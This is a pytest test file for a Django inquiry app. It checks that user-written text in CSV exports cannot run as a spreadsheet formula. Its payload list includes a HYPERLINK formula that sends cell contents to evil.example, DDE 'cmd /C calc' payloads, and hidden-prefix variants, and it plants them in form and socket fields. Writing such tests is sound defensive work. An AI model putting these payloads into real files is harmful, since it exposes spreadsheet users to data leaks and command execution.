"""CSV injection: what participants and facilitators write reaches both CSV exports as cells a
spreadsheet shows as text, never runs (OWASP: a cell starting with = + - @, a tab or a carriage return,
also after leading spaces). The attack goes in through the pages a person uses: the new-inquiry form
(a sector, a round question), the join form (a display name), the socket (posts, a theme name)."""

import csv
import io

import pytest
from channels.db import database_sync_to_async

from inquiry.models import Inquiry

from ..support import Screen, join_as

pytestmark = pytest.mark.django_db(transaction=True)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
    "   =1+1 after spaces",
    "\n=1+1 after a line break",
    "\u200b=1+1 after a zero-width space",
    "\uff1d1+1 with a full-width equals sign",
]
FORMULA = set("=+-@\uff1d\uff0b\uff0d\uff20")


def runs_as_formula(cell):
    """What a spreadsheet would do with the cell: run it, if it starts a formula (after anything that
    shows nothing)."""
    if cell[:1] in ("\t", "\r"):
        return True
    visible = cell.lstrip(" \t\r\n\u200b")
    return bool(visible) and visible[0] in FORMULA


def download(client, code, name):
    response = client.get(f"/i/{code}/export/{name}?include=all")
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")


def rows(client, code, name):
    return list(csv.DictReader(io.StringIO(download(client, code, name), newline="")))


@pytest.fixture
def poisoned(alice):
    """An inquiry whose every user-written field carries a formula, made through its pages."""
    response = alice.post(
        "/inquiries/new/",
        {
            "title": "Poisoned",
            "question": "What gets in the way?",
            "rounds": '=HYPERLINK("http://evil.example","Round")\nSecond round',
            "sectors": "=cmd|' /C calc'!A0\nNHS",
            "show_names": "on",
        },
    )
    assert response.status_code == 302
    inquiry = Inquiry.objects.get(title="Poisoned")
    return inquiry, join_as(inquiry, "@SUM(1+1)", "=cmd|' /C calc'!A0")


async def test_no_cell_of_either_csv_export_runs_as_a_formula(alice, poisoned):
    inquiry, mallory = poisoned
    phone = await Screen(inquiry.code, mallory).connect()
    board = await Screen(inquiry.code, alice).connect()
    legitimate = ["-5 degrees outside and the boiler broke", "Plain text = fine"]
    for text in ATTACKS + legitimate:
        await phone.post(text)
        assert (await phone.reply()).ack
    await board.send(type="theme", op="add", name="-1+cmd|' /C calc'!A0")
    await board.until(lambda s: len(s.themes()) == 1)
    theme = board.themes()[0][0]
    first = next(iter(board.cards()))
    await board.send(type="card", op="move", card=first, theme=theme)
    await board.until(lambda s: s.theme_of(first) == theme)
    await phone.close()
    await board.close()

    contributions = await database_sync_to_async(rows)(alice, inquiry.code, "contributions.csv")
    comments = await database_sync_to_async(rows)(alice, inquiry.code, "comments.csv")
    assert len(contributions) == len(comments) == len(ATTACKS) + len(legitimate)
    for row in contributions:
        for column in ("round_question", "theme", "text", "sector", "author"):
            assert not runs_as_formula(row[column]), (column, row[column])
    for row in comments:
        assert not runs_as_formula(row["comment-body"]), row["comment-body"]

    by_text = {row["text"]: row for row in contributions}
    # Neutralised with the usual quote and nothing else: the text is all there after it.
    blank = " \t\r\n\u200b"
    for attack in ATTACKS:
        assert any(
            cell.startswith("'") and cell[1:].strip(blank) == attack.strip(blank) for cell in by_text
        ), attack
    assert "'-5 degrees outside and the boiler broke" in by_text
    assert "Plain text = fine" in by_text, "text that cannot start a formula is left as written"
    row = by_text["'" + ATTACKS[0]]
    assert row["sector"] == "'=cmd|' /C calc'!A0"
    assert row["author"] == "'@SUM(1+1)"
    assert row["round_question"] == '\'=HYPERLINK("http://evil.example","Round")'
    assert "'-5 degrees outside and the boiler broke" in {row["comment-body"] for row in comments}
    themed = [row for row in contributions if row["theme"]]
    assert [row["theme"] for row in themed] == ["'-1+cmd|' /C calc'!A0"]


async def test_the_json_export_keeps_text_as_written(alice, poisoned):
    inquiry, mallory = poisoned
    phone = await Screen(inquiry.code, mallory).connect()
    await phone.post(ATTACKS[0])
    assert (await phone.reply()).ack
    await phone.close()
    data = await database_sync_to_async(download)(alice, inquiry.code, "inquiry.json")
    assert '"text": "=HYPERLINK(' in data, "JSON is not opened by spreadsheets: text stays as written"
